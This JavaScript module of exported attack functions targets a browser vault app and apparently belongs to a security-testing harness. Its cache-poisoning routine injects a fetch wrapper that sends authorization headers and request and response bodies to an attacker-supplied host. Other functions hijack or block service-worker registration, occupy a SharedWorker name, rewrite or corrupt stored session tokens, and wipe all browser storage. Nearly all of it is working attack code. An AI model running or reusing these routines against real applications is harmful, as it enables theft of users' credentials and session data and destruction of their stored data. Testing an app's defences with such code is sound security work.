// Script that changes what the app relies on: the vault's name, caches, storage. All of it runs in the page.

export const occupyName = (w, { env }) => {
  new w.SharedWorker(`${env.vault}vault.js`, { name: env.name, type: "module" });
};

/** Evil code in the cache of the app's own service worker; it does what the real one does, and tells of it. */
export const poisonCaches = async ({ env }) => {
  const evil = `(() => {
    const send = self.fetch.bind(self);
    self.fetch = async (...given) => {
      const asked = new Request(...given);
      const copy = asked.clone();
      const answer = await send(asked);
      const body = await copy.text().catch(() => "");
      const got = await answer.clone().text().catch(() => "");
      const told = [copy.headers.get("authorization"), body, got].join("\\n");
      if (copy.url.startsWith("${env.attacker}") === false)
        await send("${env.attacker}/evil", { method: "POST", body: told }).catch(() => {});
      return answer;
    };
  })();\n`;
  const page = `<script>
    navigator.serviceWorker.register = () => Promise.reject(new Error("no"));
  </script>`;
  const cache = await caches.open("app-v1");
  for (const [name, before, type] of [
    ["vault.js", evil, "text/javascript"],
    ["callback.html", page, "text/html"],
  ]) {
    const url = env.vault + name;
    const text = await fetch(url).then(
      (answer) => answer.text(),
      () => "",
    );
    const headers = { "content-type": type };
    await cache.put(url, new Response(before + text, { headers }));
  }
  const { register } = ServiceWorkerContainer.prototype;
  await register.call(navigator.serviceWorker, "/cache-first.js");
  await navigator.serviceWorker.ready;
  for (const registration of await navigator.serviceWorker.getRegistrations()) {
    if (registration.scope.endsWith("/keyward/")) await registration.unregister();
  }
};

export const refuseParking = (w, { replace }) => {
  replace(
    w.ServiceWorkerContainer.prototype,
    "register",
    (original) =>
      function (url, ...rest) {
        if (String(url).includes("/keyward/")) return Promise.reject(new Error("no"));
        return original.call(this, url, ...rest);
      },
  );
};

/** The keys of the marks; what another page wrote may show late. */
const marks = async () => {
  for (let n = 0; n < 50; n += 1) {
    const keys = Object.keys(localStorage).filter((key) => /\.mark$|^leaky\.tokens$/.test(key));
    if (keys.length > 0) return keys;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error("there is no mark");
};

export const markOut = async (attack, marks) => {
  for (const key of await marks()) {
    const text = localStorage.getItem(key);
    localStorage.setItem(key, text[0] === "+" ? `-${text.slice(1)}` : "null");
  }
};

export const markOther = async (attack, marks) => {
  for (const key of await marks()) {
    const text = localStorage.getItem(key);
    const other = (part) => part.split("").reverse().join("");
    const [session, hash] = text.slice(1).split(".");
    localStorage.setItem(key, text[0] === "+" ? `+${other(session)}.${other(hash)}` : "{}");
  }
};

export const clearStorage = async () => {
  localStorage.clear();
  sessionStorage.clear();
  for (const { name } of await indexedDB.databases()) indexedDB.deleteDatabase(name);
};

export { marks };
